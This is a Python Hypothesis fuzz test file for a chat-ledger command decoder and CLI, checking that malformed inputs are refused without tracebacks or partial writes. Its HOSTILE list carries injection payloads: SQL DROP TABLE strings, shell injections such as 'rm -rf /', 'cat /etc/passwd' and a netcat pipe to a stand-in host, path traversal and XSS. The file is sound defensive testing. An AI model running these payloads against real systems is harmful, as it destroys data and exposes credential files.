"""Hypothesis-generated malformed and hostile commands, through ``decode_command``/``execute`` and through
``chat-ledger apply``: only ``invalid_command`` or documented domain errors, never a traceback, never a
partial write (the head of the log is unchanged on refusal); hostile text round-trips byte for byte
(``show`` for messages, the ``status`` view for titles)."""

from __future__ import annotations

import json
import re
import uuid
from typing import Any

import msgspec
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from commands.cli.main import main
from commands.handler import command_from_dict, decode_command, execute
from ledger.errors import LedgerError
from tests.chat.helpers import ORG, OWNER, setup_org

DOCS = open(__file__.rsplit("/tests/", 1)[0] + "/docs/commands.md", encoding="utf-8").read()
#: every error code of the reference's error table
KNOWN_CODES = set(re.findall(r"^\| `([a-z_]+)` \|", DOCS, flags=re.M)) - {"database_unavailable", "invalid_database_url"}

HOSTILE = [
    "'; DROP TABLE chatledger_events; --", "\" OR 1=1 --", "Robert'); DROP TABLE chat_status;--",
    "$(rm -rf /)", "`reboot`", "; cat /etc/passwd", "| nc evil 80 &", "&& shutdown -h now", "%s%n%x",
    "{{7*7}}${7*7}", "../../etc/passwd", "\x00", "a\x00b", "\r\n\t", "\u202eevil", "😀👩‍👩‍👧", "\\", "\\x00",
    "NULL", "null", "<script>alert(1)</script>", "\ufeff", "\u2028\u2029", " ", "-" * 300,
]
huge = st.sampled_from([10_000, 100_000, 1_000_000]).map(lambda n: "x" * n)
hostile_text = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40), huge,
                         st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4).map("".join))
bad_uuid = st.one_of(st.sampled_from(["", "not-a-uuid", "00000000-0000-0000-0000-00000000000g", "1' OR '1'='1",
                                      "$(id)", str(uuid.uuid4()).upper() + "x", "{" + str(uuid.uuid4()) + "}x"]),
                     hostile_text)
wrong_type = st.one_of(st.integers(), st.floats(allow_nan=True), st.booleans(), st.none(),
                       st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5), st.integers(), max_size=2))


def base_commands(chat_id: str) -> list[dict[str, Any]]:
    return [
        {"type": "create_chat", "organization_id": ORG, "owner_id": OWNER, "text": "hello"},
        {"type": "send_message", "chat_id": chat_id, "text": "hi"},
        {"type": "set_title", "chat_id": chat_id, "title": "t"},
        {"type": "commit_step", "chat_id": chat_id,
         "messages": [{"role": "assistant", "parts": [{"type": "text", "text": "a"}]}]},
        {"type": "interrupt", "chat_id": chat_id, "reason": "r"},
        {"type": "edit_message", "chat_id": chat_id, "message_id": 1, "text": "e"},
    ]


@st.composite
def hostile_command(draw: Any, chat_id: str) -> bytes:
    cmd = dict(draw(st.sampled_from(base_commands(chat_id))))
    kind = draw(st.sampled_from(["wrong_type", "unknown_field", "bad_uuid", "drop", "bad_type", "not_object",
                                 "malformed", "hostile_text", "mixed"]))
    keys = [k for k in cmd if k != "type"]
    if kind in ("wrong_type", "mixed"):
        cmd[draw(st.sampled_from(keys))] = draw(wrong_type)
    if kind in ("unknown_field", "mixed"):
        cmd[draw(hostile_text.filter(lambda s: s not in cmd))] = draw(st.one_of(hostile_text, wrong_type))
    if kind in ("bad_uuid", "mixed"):
        uuid_keys = [k for k in keys if k.endswith("_id") and k != "message_id"]
        cmd[draw(st.sampled_from(uuid_keys))] = draw(bad_uuid)
    if kind == "drop":
        del cmd[draw(st.sampled_from(keys))]
    if kind == "bad_type":
        cmd["type"] = draw(st.one_of(hostile_text, wrong_type))
    if kind == "hostile_text":
        for k in ("text", "title", "reason"):
            if k in cmd:
                cmd[k] = draw(hostile_text)
    if kind == "not_object":
        return msgspec.json.encode(draw(st.one_of(wrong_type, hostile_text, st.lists(hostile_text, max_size=2))))
    raw = msgspec.json.encode(cmd)
    if kind == "malformed":
        cut = draw(st.integers(0, len(raw)))
        raw = raw[:cut] + draw(st.sampled_from([b"", b"\xff\xfe", b"}", b"{{", b",", b"\x00", b"'"]))
    return raw


@pytest.fixture
def ledger(app: Any) -> tuple[Any, str]:
    setup_org(app)
    chat_id = execute(app, command_from_dict({"type": "create_chat", "organization_id": ORG, "owner_id": OWNER,
                                              "text": "target"}))["chat_id"]
    return app, chat_id


SETTINGS = settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck), database=None)


@SETTINGS
@given(data=st.data())
def test_hostile_commands_are_refused_cleanly_or_applied_whole(ledger: tuple[Any, str], data: Any) -> None:
    app, chat_id = ledger
    raw = data.draw(hostile_command(chat_id))
    head = app.head()
    try:
        result = execute(app, decode_command(raw))
    except LedgerError as e:
        assert e.code == "invalid_command" or e.code in KNOWN_CODES, (e.code, e.message)
        assert e.message and len(e.message) < 20_000
        assert app.head() == head, "a refused command recorded something"
        return
    # accepted (a hostile but valid command): it wrote something, and the chat reads back
    assert app.head() > head
    assert app.load(uuid.UUID(result["chat_id"])).version == result["version"]


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(data=st.data())
def test_apply_reports_every_hostile_line(ledger: tuple[Any, str], data: Any, db_url: str) -> None:
    app, chat_id = ledger
    lines = data.draw(st.lists(hostile_command(chat_id), min_size=1, max_size=6))
    text = "\n".join(line.decode("utf-8", "replace").replace("\n", " ").replace("\r", " ") for line in lines) + "\n"
    head = app.head()
    result = CliRunner().invoke(main, ["--db", db_url, "apply", "-"], input=text)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    # one result per "\n"-terminated line (not str.splitlines: results may hold U+2028 and other
    # separators inside their JSON strings)
    out = [json.loads(x) for x in result.output.split("\n") if x.strip()]
    numbered = [i + 1 for i, line in enumerate(text.split("\n")[:-1]) if line.strip()]
    assert [o["line"] for o in out] == numbered
    for o in out:
        if not o["ok"]:
            assert o["error"]["code"] == "invalid_command" or o["error"]["code"] in KNOWN_CODES
    assert result.exit_code == (1 if any(not o["ok"] for o in out) else 0)
    if not any(o["ok"] for o in out):
        assert app.head() == head


@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(text=st.one_of(st.sampled_from(HOSTILE), st.text(min_size=1, max_size=200),
                      st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=5).map("".join)).filter(lambda s: s.strip()))
def test_hostile_text_round_trips_byte_for_byte(ledger: tuple[Any, str], db_url: str, text: str) -> None:
    app, _ = ledger
    runner = CliRunner()
    created = execute(app, command_from_dict({"type": "create_chat", "organization_id": ORG, "owner_id": OWNER,
                                              "text": text, "title": "x" + text[:150], "initial_status": "waiting"}))
    chat_id = created["chat_id"]
    sent = execute(app, command_from_dict({"type": "send_message", "chat_id": chat_id, "text": text}))
    shown = runner.invoke(main, ["--db", db_url, "show", chat_id, "--json"])
    assert shown.exit_code == 0, shown.output
    messages = {m["message_id"]: m for m in json.loads(shown.output)["messages"]}
    for mid in (1, *sent["message_ids"]):
        parts = messages[mid]["parts"]
        assert parts[0]["text"].encode("utf-8") == text.encode("utf-8")
    status = runner.invoke(main, ["--db", db_url, "status", chat_id, "--json"])
    assert status.exit_code == 0, status.output
    row = json.loads(status.output.split("\n")[0])
    title = ("x" + text[:150]).strip()
    if db_url.startswith("postgres"):  # PostgreSQL text cannot hold NUL: the views store U+FFFD for it
        title = title.replace("\x00", "\ufffd")
    assert row["title"].encode("utf-8") == title.encode("utf-8")
    assert row["version"] == sent["version"]


def test_nul_in_a_title_does_not_wedge_the_views(ledger: tuple[Any, str], db_url: str) -> None:
    """Regression: on PostgreSQL a NUL in any view text made every later catch-up fail, for every chat."""
    app, _ = ledger
    nul = execute(app, command_from_dict({"type": "create_chat", "organization_id": ORG, "owner_id": OWNER,
                                          "text": "a\x00b", "initial_status": "waiting"}))["chat_id"]
    running = execute(app, command_from_dict({"type": "create_chat", "organization_id": ORG, "owner_id": OWNER,
                                              "text": "tools", "dynamic_tools": ["t\x00"]}))["chat_id"]
    execute(app, command_from_dict({"type": "commit_step", "chat_id": running, "messages": [{"role": "assistant", "parts": [
        {"type": "tool-call", "tool_call_id": "c\x00", "tool_name": "t\x00", "args": {"k\x00": "v\x00"}}]}]}))
    other = execute(app, command_from_dict({"type": "create_chat", "organization_id": ORG, "owner_id": OWNER,
                                            "text": "plain"}))["chat_id"]
    runner = CliRunner()
    rows = {}
    for cid in (nul, other):
        r = runner.invoke(main, ["--db", db_url, "status", cid, "--json"])
        assert r.exit_code == 0, r.output
        rows[cid] = json.loads(r.output.split("\n")[0])
    stand_in = "\ufffd" if db_url.startswith("postgres") else "\x00"
    assert rows[nul]["title"] == f"a{stand_in}b" and rows[other]["title"] == "plain"
    r = runner.invoke(main, ["--db", db_url, "unresolved", running, "--json"])  # NUL in keys and JSON
    assert r.exit_code == 0, r.output
    call = json.loads(r.output.split("\n")[0])
    assert call["tool_call_id"] == f"c{stand_in}" and call["args"] == {f"k{stand_in}": f"v{stand_in}"}
    shown = json.loads(runner.invoke(main, ["--db", db_url, "show", nul, "--json"]).output)
    assert shown["messages"][0]["parts"][0]["text"] == "a\x00b"  # the ledger keeps it exactly
